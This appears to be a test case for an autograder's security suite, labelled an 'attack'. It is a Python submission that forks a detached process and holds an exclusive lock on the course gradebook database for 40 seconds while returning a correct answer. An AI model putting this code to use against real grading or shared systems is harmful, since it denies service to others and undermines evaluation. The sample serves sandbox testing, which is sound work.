# attack: A right answer leaves a process that keeps the gradebook locked.
# group: harm
# deserves: 10

# %% new: after informative_groups
import os
import sqlite3
import time
from pathlib import Path

try:
    if Path("@COURSE@/gradebook.db").exists() and os.fork() == 0:
        os.setsid()
        database = sqlite3.connect("@COURSE@/gradebook.db", isolation_level=None)
        database.execute("begin exclusive")
        time.sleep(40)
        os._exit(0)
except OSError as error:
    print(error)
